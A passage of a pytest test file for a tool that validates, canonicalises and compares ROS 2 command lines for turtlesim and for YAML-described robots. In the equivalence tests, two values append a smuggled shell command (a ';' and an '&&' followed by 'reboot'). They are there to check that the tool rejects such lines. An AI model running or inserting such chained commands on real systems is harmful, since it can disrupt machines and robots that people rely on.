    'ros2 service call /clear std_srvs/srv/Empty "{}"',
    'ros2 service call /spawn turtlesim/Spawn',
    'ros2 param set /turtlesim background_g 255',
])
def test_partial_and_short_commands_are_valid(line):
    assert problems_of(line) == []


def test_unsupported_is_valid():
    assert validate(Command(UNSUPPORTED)) == []
    assert check_line('UNSUPPORTED') == (True, '')


# --- canonical text -------------------------------------------------------------------------

@pytest.mark.parametrize('line, expected', [
    ('ros2 topic pub -1 /turtle1/cmd_vel geometry_msgs/Twist "{angular: {z: 1}}"',
     twist(z=1.0)),
    (f'ros2 topic pub -r 1.0 /turtle1/cmd_vel {TWIST}', twist(option='--rate 1')),
    (f'ros2 topic pub --rate=2.5 /turtle1/cmd_vel {TWIST}', twist(option='--rate 2.5')),
    (f'ros2 topic pub -t 3 /turtle1/cmd_vel {TWIST}', twist(option='--times 3')),
    (f'ros2 topic pub -1 /turtle1/cmd_vel {TWIST} "{{linear: {{x: 1.5e+1}}, angular: '
     '{z: -1.5e-05}}"', twist(x='15.0', z='-0.000015')),
    (f'ros2 topic pub -1 /turtle1/cmd_vel {TWIST} "{{linear: {{x: 1.0e-40}}}}"',
     twist(x='1.0e-40')),
    (f'ros2 topic pub -1 /turtle1/cmd_vel {TWIST} "{{linear: {{x: 0x0A}}, angular: '
     '{z: 1_0}}"', twist(x='10.0', z='10.0')),
    ('ros2 service call /spawn turtlesim/Spawn "{name: \'leo\', x: 1}"',
     'ros2 service call /spawn turtlesim/srv/Spawn "{x: 1.0, y: 0.0, theta: 0.0, '
     'name: \'leo\'}"'),
    ('ros2 service call /reset std_srvs/Empty "{}"',
     'ros2 service call /reset std_srvs/srv/Empty'),
    (PEN.format("'off': 1, width: 3"), PEN.format("r: 0, g: 0, b: 0, width: 3, 'off': 1")),
    ('ros2 param set /turtlesim background_r 07', 'ros2 param set /turtlesim background_r 7'),
    ('  UNSUPPORTED', 'UNSUPPORTED'),
    (KILL.format('leo'), KILL.format("'leo'")),
    (f'ros2 topic pub --rate=.5 /turtle1/cmd_vel {TWIST}', twist(option='--rate 0.5')),
    (f'ros2 topic pub --times +0007 /turtle1/cmd_vel {TWIST}', twist(option='--times 7')),
])
def test_canonical_text(line, expected):
    assert canonical(line) == expected
    assert canonical(expected) == expected


def test_canonical_rejects_an_invalid_command():
    with pytest.raises(CommandError, match='turtlesim has no topic /cmd_vel'):
        canonical(parse_command(f'ros2 topic pub --once /cmd_vel {TWIST}'))


# --- semantic equality ----------------------------------------------------------------------

@pytest.mark.parametrize('a, b', [
    (twist(x=1.0), twist(x=1.0, option='-1')),
    (twist(option='--rate 1'), twist(option='-r 1')),
    (twist(option='--rate 1'), twist(option='--rate 1.0')),
    (twist(option='--times 3'), twist(option='-t 3')),
    (twist(), twist().replace(TWIST, 'geometry_msgs/Twist')),
    ('ros2 service call /clear std_srvs/srv/Empty', 'ros2 service call /clear std_srvs/Empty'),
    (twist(x=1.0, z=0.5),
     PUB + '"{angular: {z: 0.5, y: 0.0, x: 0.0}, linear: {z: 0.0, y: 0.0, x: 1.0}}"'),
    (twist(x=1.0), PUB + '"{linear: {x: 1.0}}"'),
    (twist(x=1.0), PUB + '"{linear: {x: 1}}"'),
    (twist(), PUB.strip()),
    ('ros2 service call /spawn turtlesim/srv/Spawn "{x: 3.0, y: 4.0, theta: 0.0, name: \'\'}"',
     'ros2 service call /spawn turtlesim/srv/Spawn "{y: 4, x: 3}"'),
    (PEN.format("r: 179, g: 184, b: 255, width: 3, 'off': 1"),
     PEN.format("'off': 1, width: 3, b: 255, g: 184, r: 179")),
    ('ros2 service call /clear std_srvs/srv/Empty',
     'ros2 service call /clear std_srvs/Empty "{}"'),
    (UNSUPPORTED, ' UNSUPPORTED '),
    ('ros2 param set /turtlesim background_r 100', 'ros2 param set /turtlesim background_r 101'),
])
def test_equivalent_spellings_are_the_same_command(a, b):
    assert same_command(a, b)
    assert same_command(b, a)


@pytest.mark.parametrize('x, y, same', [
    (1.5708, 1.5708, True),
    (0.0, 0.01, True),            # 0.01 absolute
    (0.0, 0.0101, False),
    (0.5, 0.51, True),
    (0.5, 0.5101, False),
    (-0.7854, -0.7954, True),
    (-0.7854, -0.7955, False),
    (10.0, 10.1, True),           # 1 % of the larger value
    (10.0, 10.102, False),
    (-19.8, -20.0, True),
    (-19.79, -20.0, False),
    (2.0, -2.0, False),
])
def test_numbers_match_within_tolerance(x, y, same):
    assert same_command(twist(x=x), twist(x=y)) is same
    assert same_command(twist(z=y), twist(z=x)) is same


@pytest.mark.parametrize('a, b', [
    (twist(x=1.0), twist(z=1.0)),
    (twist(x=1.0), twist(x=1.0, option='--rate 1')),
    (twist(x=1.0, option='--times 3'), twist(x=1.0, option='--times 4')),
    (twist(option='--rate 1'), twist(option='--rate 2')),
    (twist(x=1.0), twist(x=1.0).replace('turtle1', 'turtle2')),
    ('ros2 service call /clear std_srvs/srv/Empty', 'ros2 service call /reset std_srvs/srv/Empty'),
    ("ros2 service call /kill turtlesim/srv/Kill \"{name: 'leo'}\"",
     "ros2 service call /kill turtlesim/srv/Kill \"{name: 'Leo'}\""),
    (PEN.format("'off': 1"), PEN.format("'off': 0")),
    ('ros2 param set /turtlesim background_r 0', 'ros2 param set /turtlesim background_g 0'),
    ('ros2 param set /turtlesim background_r 0', 'ros2 param set /turtlesim background_r 5'),
    (UNSUPPORTED, twist()),
    (UNSUPPORTED, 'UNSUPPORTED; reboot'),
    (twist(), twist() + ' && reboot'),
    (twist(), twist().replace(TWIST, 'turtlesim/msg/Pose')),
])
def test_different_commands_are_not_the_same(a, b):
    assert not same_command(a, b)
    assert not same_command(b, a)


def test_invalid_commands_equal_nothing():
    line = PEN.format('r: 256')
    assert not same_command(line, line)
    assert same_command(parse_command(twist(x=1.0)), twist(x=1.0))


# --- another robot: described by data only --------------------------------------------------

@pytest.fixture
def rover(tmp_path):
    path = tmp_path / 'rover.yaml'
    path.write_text('\n'.join([
        'name: rover',
        'topics:',
        '  - {name: /led, type: std_msgs/msg/Bool, fields: [{name: data, type: bool}]}',
        '  - {name: /say, type: std_msgs/msg/String, fields: [{name: data, type: string}]}',
        'parameters:',
        '  - {node: /driver, name: max_speed, type: double, min: 0.0, max: 2.0}',
        '  - {node: /driver, name: mode, type: string}',
        '  - {node: /driver, name: armed, type: bool}',
    ]), encoding='utf-8')
    return RobotDescription.load(path)


@pytest.mark.parametrize('line, expected', [
    ('ros2 topic pub --once /led std_msgs/Bool "{data: true}"',
     'ros2 topic pub --once /led std_msgs/msg/Bool "{data: true}"'),
    ('ros2 topic pub --once /led std_msgs/msg/Bool', 'ros2 topic pub --once /led '
                                                     'std_msgs/msg/Bool "{data: false}"'),
    ('ros2 param set /driver max_speed 1.5', 'ros2 param set /driver max_speed 1.5'),
    ('ros2 param set /driver mode fast', 'ros2 param set /driver mode fast'),
    ("ros2 param set /driver mode 'very fast'", "ros2 param set /driver mode 'very fast'"),
    ('ros2 param set /driver armed true', 'ros2 param set /driver armed true'),
])
def test_another_robot_is_validated_from_its_description(rover, line, expected):
    assert check_line(line, rover) == (True, '')
    assert canonical(line, rover) == expected


def test_option_ranges_come_from_the_description(rover, tmp_path):
    line = 'ros2 topic pub {} /led std_msgs/msg/Bool'
    for option in ('--rate 500', '--rate 0.0001', '--times 5000'):
        assert check_line(line.format(option), rover) == (True, '')
    assert 'greater than 0' in check_line(line.format('--rate 0'), rover)[1]
    path = tmp_path / 'slow.yaml'
    path.write_text(Path(rover.path).read_text(encoding='utf-8')
                    + '\noptions: {rate: {max: 5.0}, times: {min: 2, max: 3}}\n',
                    encoding='utf-8')
    slow = RobotDescription.load(path)
    assert check_line(line.format('-r 5'), slow) == (True, '')
    assert check_line(line.format('-t 3'), slow) == (True, '')
    assert check_line(line.format('-r 6'), slow) == (False, '--rate must be at most 5, not 6')
    assert check_line(line.format('-t 1'), slow) == (False, '--times must be at least 2, not 1')
    assert check_line(line.format('-t 4'), slow) == (False, '--times must be at most 3, not 4')


def test_another_robot_strings_are_rendered_so_they_read_back(rover):
    for line, expected in [
            ('ros2 topic pub --once /say std_msgs/msg/String "{data: \'o\'\'neil\'}"',
             'ros2 topic pub --once /say std_msgs/msg/String "{data: \'o\'\'neil\'}"'),
            ('ros2 topic pub --once /say std_msgs/String', 'ros2 topic pub --once /say '
                                                           'std_msgs/msg/String "{data: \'\'}"'),
            ('ros2 param set /driver mode "\'off\'"', 'ros2 param set /driver mode "\'off\'"'),
            ("ros2 param set /driver mode '\"5\"'", 'ros2 param set /driver mode "\'5\'"'),
            ('ros2 param set /driver mode "\'it\'\'s\'"',
             'ros2 param set /driver mode "\'it\'\'s\'"'),
            ("ros2 param set /driver mode 'a,b'", 'ros2 param set /driver mode a,b'),
            ('ros2 param set /driver mode null', 'ros2 param set /driver mode "\'null\'"')]:
        assert check_line(line, rover) == (True, ''), line
        assert canonical(line, rover) == expected
        assert check_line(expected, rover) == (True, '')
        assert canonical(expected, rover) == expected


@pytest.mark.parametrize('line, problem', [
    ('ros2 topic pub --once /led std_msgs/msg/Bool "{data: 1}"', 'data must be true or false'),
    ('ros2 topic pub --once /led std_msgs/msg/Bool "{data: yes}"', 'data must be true or false'),
    ('ros2 param set /driver max_speed 1', 'max_speed must be a number with a decimal point'),
    ('ros2 param set /driver max_speed 2.5', 'max_speed must be between 0.0 and 2.0'),
    ('ros2 param set /driver mode 5', 'mode must be a string, not 5'),
    ('ros2 param set /driver armed on', "armed must be true or false, not 'on'"),
    ('ros2 param set /driver mode off', 'mode: ros2cli reads the bare word off as a boolean'),
    ('ros2 param set /driver mode -x', 'this form takes no options'),
    (f'ros2 topic pub --once /turtle1/cmd_vel {TWIST}', 'rover has no topic /turtle1/cmd_vel'),
])
def test_another_robot_reports_problems(rover, line, problem):
    ok, reason = check_line(line, rover)
    assert not ok and problem in reason


# --- arrays, listed values, Header and Duration ---------------------------------------------

BASE = """\
name: base
topics:
  - name: /plan
    type: base_msgs/msg/Plan
    fields:
      - name: header
        type: std_msgs/msg/Header
        fields:
          - name: stamp
            type: builtin_interfaces/msg/Time
            fields:
              - {name: sec, type: int32, min: 0, unit: s}
              - {name: nanosec, type: uint32, max: 999999999}
          - {name: frame_id, type: string, values: [map, odom], default: map}
      - {name: speeds, type: 'float64[<=3]', min: 0.0, max: 1.0, unit: m/s}
      - {name: gains, type: 'float32[2]'}
      - name: points
        type: base_msgs/msg/Point[]
        fields: [{name: x, type: float64}, {name: y, type: float64}]
      - {name: gear, type: int8, values: {1: forward, -1: backward}, default: 1}
actions:
  - name: /wait
    type: base_msgs/action/Wait
    fields:
      - name: time
        type: builtin_interfaces/msg/Duration
        fields:
          - {name: sec, type: int32, min: 0, default: 10, unit: s}
          - {name: nanosec, type: uint32, max: 999999999}
parameters:
  - {node: /driver, name: mode, type: string, values: [slow, fast]}
"""
PLAN = 'ros2 topic pub --once /plan base_msgs/msg/Plan "{{{}}}"'
STAMPED = "header: {{stamp: {{sec: 0, nanosec: 0}}, frame_id: '{}'}}"
WAIT = 'ros2 action send_goal /wait base_msgs/action/Wait "{{time: {{{}}}}}"'


@pytest.fixture
def base(tmp_path):
    path = tmp_path / 'base.yaml'
    path.write_text(BASE, encoding='utf-8')
    return RobotDescription.load(path)


@pytest.mark.parametrize('line, expected', [
    (PLAN.format('header: {frame_id: map}, gear: 1'),
     PLAN.format(STAMPED.format('map') + ', speeds: [], gains: [0.0, 0.0], points: [], gear: 1')),
    (PLAN.format("header: {frame_id: 'odom'}, speeds: [0.5, 1], gains: [1, 2.5], "
                 'points: [{x: 1}, {y: -2.0}], gear: -1'),
     PLAN.format(STAMPED.format('odom') + ', speeds: [0.5, 1.0], gains: [1.0, 2.5], '
                 'points: [{x: 1.0, y: 0.0}, {x: 0.0, y: -2.0}], gear: -1')),
    (PLAN.format('header: {stamp: {sec: 1700000000, nanosec: 5}, frame_id: map}, '
                 'speeds: [0.0, 0.25, 1.0], gear: 1'),
     PLAN.format("header: {stamp: {sec: 1700000000, nanosec: 5}, frame_id: 'map'}, "
                 'speeds: [0.0, 0.25, 1.0], gains: [0.0, 0.0], points: [], gear: 1')),
    (WAIT.format('sec: 5'), WAIT.format('sec: 5, nanosec: 0')),
    (WAIT.format('sec: 2, nanosec: 500000000'), WAIT.format('sec: 2, nanosec: 500000000')),
    ('ros2 action send_goal /wait base_msgs/action/Wait "{}"', WAIT.format('sec: 0, nanosec: 0')),
    ('ros2 param set /driver mode fast', 'ros2 param set /driver mode fast'),
])
def test_arrays_values_and_stamps_are_valid_and_canonical(base, line, expected):
    assert check_line(line, base) == (True, '')
    assert canonical(line, base) == expected
    assert canonical(expected, base) == expected
    assert same_command(line, expected, base)


@pytest.mark.parametrize('line, problem', [
    (PLAN.format('header: {frame_id: base_link}, gear: 1'),
     "header.frame_id must be one of 'map', 'odom', not 'base_link'"),
    (PLAN.format('gear: 1'),
     "header.frame_id must be one of 'map', 'odom', not '' (omitted, so zero)"),
    (PLAN.format('header: {frame_id: map}'),
     'gear must be one of 1 (forward), -1 (backward), not 0 (omitted, so zero)'),
    (PLAN.format('header: {frame_id: map}, gear: 2'),
     'gear must be one of 1 (forward), -1 (backward), not 2'),
    (PLAN.format('header: {frame_id: map}, gear: 1, speeds: [0.5, 0.5, 0.5, 0.5]'),
     'speeds must hold at most 3 elements, not 4'),
    (PLAN.format('header: {frame_id: map}, gear: 1, gains: [1.0]'),
     'gains must hold exactly 2 elements, not 1'),
    (PLAN.format('header: {frame_id: map}, gear: 1, speeds: 0.5'),
     'speeds must be a list [...] of float64, not 0.5'),
    (PLAN.format('header: {frame_id: map}, gear: 1, speeds: [0.5, 2.0]'),
     'speeds[1] must be between 0.0 and 1.0, not 2.0'),
    (PLAN.format('header: {frame_id: map}, gear: 1, speeds: [fast]'),
     "speeds[0] must be a number, not 'fast'"),
    (PLAN.format('header: {frame_id: map}, gear: 1, points: [{x: 1.0, z: 1.0}]'),
     'base_msgs/msg/Point has no field points[0].z (its fields: x, y)'),
    (PLAN.format('header: {frame_id: map}, gear: 1, points: [{x: 1.0}, 1.0]'),
     'points[1] must be a mapping of the fields of base_msgs/msg/Point'),
    (PLAN.format('header: {frame_id: map}, gear: 1, points: {x: 1.0}'),
     "points must be a list [...] of base_msgs/msg/Point, not {'x': 1.0}"),
    (PLAN.format('header: {frame_id: map, stamp: [0, 0]}, gear: 1'),
     'header.stamp must be a mapping of the fields of builtin_interfaces/msg/Time'),
    (WAIT.format('sec: -1'), 'time.sec must be between 0 and 2147483647, not -1'),
    (WAIT.format('sec: 1, nanosec: 1000000000'),
     'time.nanosec must be between 0 and 999999999, not 1000000000'),
    ('ros2 param set /driver mode medium', "mode must be one of 'slow', 'fast', not 'medium'"),
])
def test_arrays_values_and_stamps_report_problems(base, line, problem):
    ok, reason = check_line(line, base)
    assert not ok and problem in reason


def test_arrays_are_compared_element_by_element(base):
    def speeds(values):
        return PLAN.format(f'header: {{frame_id: map}}, gear: 1, speeds: [{values}]')

    assert same_command(speeds('0.5'), speeds('0.501'), base)
    assert same_command(speeds('0.5, 1.0'), speeds('0.5, 0.995'), base)
    assert not same_command(speeds('0.5'), speeds('0.5, 0.0'), base)
    assert not same_command(speeds('0.5'), speeds('0.6'), base)
    assert same_command(PLAN.format('header: {frame_id: map}, gear: 1'),
                        PLAN.format('header: {frame_id: map}, gear: 1, gains: [0.0, 0.0]'), base)
